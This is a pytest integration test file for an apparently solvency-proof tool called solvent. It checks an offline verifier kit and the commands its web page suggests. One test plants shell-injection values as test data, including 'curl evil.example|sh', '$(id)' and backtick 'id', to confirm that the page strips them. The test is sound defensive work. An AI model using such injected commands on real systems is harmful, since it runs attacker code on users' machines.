"""The offline kit, downloaded from the page (served and static site, v2), unpacked and run
with a plain isolated ``python3`` (no solvent importable): the proof verifies, the audit
passes, a changed file fails with solvent's exit code; and the page's suggested commands,
run with the real ``solvent``, give the page's verdicts (the reserves too, with a node of the
verifier's own for every chain the server read).
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from solvent.pipeline.lookup import proof_bytes
from solvent.web.kit import FILE_NAME, verifier_source
from tests.web.browser import open_page
from tests.web.conftest import V2_ID, V2_RESERVES_ID, Mixed, ReservedV2, Server

pytestmark = pytest.mark.integration

ISOLATED = (sys.executable, "-I", "-S")




def download_kit(page: Any, tmp_path: Path, sid: str) -> Path:
    with page.expect_download() as info:
        page.click("#kit-download")
    download = info.value
    assert download.suggested_filename == f"solvent-kit-{sid}.zip"
    archive = tmp_path / download.suggested_filename
    download.save_as(archive)
    with zipfile.ZipFile(archive) as z:
        assert z.testzip() is None  # every CRC checks
        z.extractall(tmp_path)
    page.wait_for_selector("#kit-status:has-text('is saved')")
    return tmp_path / f"solvent-kit-{sid}"


def commands(page: Any) -> list[str]:
    codes = page.locator("#commands code")
    return [codes.nth(i).inner_text() for i in range(codes.count())]


def run(folder: Path, *args: str, isolated: bool = True) -> subprocess.CompletedProcess[str]:
    head = [*ISOLATED, FILE_NAME] if isolated else [sys.executable, "-m", "solvent"]
    return subprocess.run([*head, *args], cwd=folder, capture_output=True, text=True, timeout=120, check=False)


def test_the_kit_runs_with_python_alone_and_the_commands_agree(
    page: Any, v2_site: str, mixed: Mixed, tmp_path: Path
) -> None:
    open_page(page, v2_site)
    alice = mixed.v2.account("alice")
    page.fill("#hashed-id", alice.hashed_id)
    page.click("#find-button")
    page.wait_for_selector("#verify-banner.pass")
    kit = download_kit(page, tmp_path, V2_ID)

    # The layout solvent reads, every file as published; the proof as the page verified it.
    public = mixed.v2.public
    manifest = json.loads((public / "snapshot.json").read_bytes())
    for name in ["snapshot.json", "snapshot.json.sig", "signing.pub", *manifest["files"]]:
        assert (kit / "public" / name).read_bytes() == (public / name).read_bytes(), name
    assert any("/" in name for name in manifest["files"])  # liabilities/ and tree/S/ sub-folders
    proof_name = f"proof-{alice.hashed_id[:16]}.json"
    assert (kit / proof_name).read_bytes() == proof_bytes(mixed.v2.directory, alice.hashed_id)
    assert (kit / FILE_NAME).read_text(encoding="utf-8") == verifier_source()
    readme = (kit / "README.txt").read_text(encoding="utf-8")
    key = (public / "signing.pub").read_text().strip()
    verify_line = f"python3 {FILE_NAME} verify {proof_name} --snapshot public/snapshot.json --public-key {key}"
    assert verify_line in readme and f"python3 {FILE_NAME} audit public --public-key {key}" in readme

    # Python alone: solvent is not importable there.
    probe = subprocess.run([*ISOLATED, "-c", "import solvent"], cwd=kit, capture_output=True, text=True, check=False)
    assert probe.returncode == 1 and "No module named 'solvent'" in probe.stderr
    verified = run(kit, *verify_line.split()[2:])
    assert verified.returncode == 0, verified.stderr
    assert verified.stdout.startswith("VALID") and f"{key} (pinned)" in verified.stdout
    audited = run(kit, "audit", "public", "--public-key", key)
    assert audited.returncode == 0, audited.stderr
    assert audited.stdout.startswith("AUDIT PASSED")

    # The page's own suggestions, with the real solvent, in the kit's folder: the page's verdict.
    suggested = commands(page)
    assert "pip install solvent" in suggested
    verify_cmd = next(c for c in suggested if c.startswith("solvent verify"))
    audit_cmd = next(c for c in suggested if c.startswith("solvent audit"))
    for command in (verify_cmd.replace("proof-<id>.json", proof_name), audit_cmd):
        result = run(kit, *command.split()[1:], isolated=False)
        assert result.returncode == 0, (command, result.stderr)
    assert not any("FOLDER" in c for c in suggested)

    # A changed file fails, with solvent's exit code (1: the data does not check out).
    csv = kit / "public" / "liabilities" / "BTC.csv"
    lines = csv.read_bytes().split(b"\n")
    lines[1] = lines[1][:-1] + (b"4" if lines[1].endswith(b"3") else b"3")
    csv.write_bytes(b"\n".join(lines))
    failed = run(kit, "audit", "public", "--public-key", key)
    assert failed.returncode == 1 and "BTC.csv" in failed.stderr
    proof = kit / proof_name
    proof.write_bytes(proof.read_bytes().replace(b'"amount": "150000000"', b'"amount": "150000001"', 1))
    assert run(kit, *verify_line.split()[2:]).returncode == 1
    assert not page.errors and not page.console_errors


def test_the_suggested_report_gives_the_pages_verdicts(
    page: Any, server_v2_reserves: Server, reserved_v2: ReservedV2, tmp_path: Path
) -> None:
    """The server read the reserves with its nodes: the suggestion asks for a node per chain
    (and the server's --token options); with the verifier's own node for each, `solvent report`
    says per asset what the page says."""
    open_page(page, server_v2_reserves.url)
    rows = page.locator("#solvency-table tbody tr")
    shown = {
        rows.nth(i).locator("th").inner_text(): rows.nth(i).get_attribute("data-status") for i in range(rows.count())
    }
    assert "PASS" in shown.values()
    kit = download_kit(page, tmp_path, V2_RESERVES_ID)
    report_cmd = next(c for c in commands(page) if c.startswith("solvent report"))
    options = reserved_v2.node_options
    nodes = {v.split("=", 1)[0]: v for k, v in zip(options[::2], options[1::2], strict=True) if k == "--node"}
    asked = re.findall(r"--node (\S+)=URL", report_cmd)
    assert asked and set(asked) <= set(nodes)
    for token in (v for k, v in zip(options[::2], options[1::2], strict=True) if k == "--token"):
        assert f"--token {token}" in report_cmd
    words = report_cmd.split()[1:]
    words = [nodes[w.split("=", 1)[0]] if w.endswith("=URL") else w for w in words]
    result = run(kit, *words, "--json", isolated=False)
    assert result.returncode in (0, 1), result.stderr
    report = json.loads(result.stdout)
    statuses = {line["asset"]: line["status"] for line in report["snapshots"][0]["assets"]}
    assert {k: v for k, v in statuses.items() if k in shown} == shown
    # Without the nodes, the same command counts those chains' balances as declared, as the page
    # says it would: an asset the page passes is DECLARED, so the nodes are what the verdict needs.
    bare = [w for w in report_cmd.split()[1:] if not w.endswith("=URL") and w != "--node"]
    declared = json.loads(run(kit, *bare, "--json", isolated=False).stdout)
    without = {line["asset"]: line["status"] for line in declared["snapshots"][0]["assets"]}
    assert any(shown[s] == "PASS" and without[s] == "DECLARED" for s in shown)
    assert not page.errors and not page.console_errors


def test_the_report_line_carries_no_text_but_chains_and_known_options(page: Any, server_v2_reserves: Server) -> None:
    """summary.json's checked_with is joined into a line a customer copies: a chain name or an
    option that is not of the registry's own forms (shell text) never reaches it."""
    url = f"{server_v2_reserves.url}api/snapshots/{V2_RESERVES_ID}"
    real = page.request.get(url).json()
    how = real["solvency"]["checked_with"]
    assert how["node_chains"]
    evil = "x; curl evil.example|sh"
    real["solvency"]["checked_with"] = {
        "node_chains": [*how["node_chains"], f"bitcoin=URL {evil} #"],
        "options": [*how["options"], "--token", f"ethereum:EVIL=0x{'1' * 40} $(id)", "--max-block-age", "1h`id`", evil],
    }
    body = json.dumps(real)

    def handle(route: Any) -> None:
        route.fulfill(status=200, body=body, content_type="application/json")

    page.route(url, handle)
    open_page(page, server_v2_reserves.url)
    report_cmd = next(c for c in commands(page) if c.startswith("solvent report"))
    assert all(f"--node {c}=URL" in report_cmd for c in how["node_chains"])
    assert not any(ch in report_cmd for ch in ";|$`#'\"()"), report_cmd
    assert "evil" not in report_cmd and "EVIL" not in report_cmd and "1h" not in report_cmd
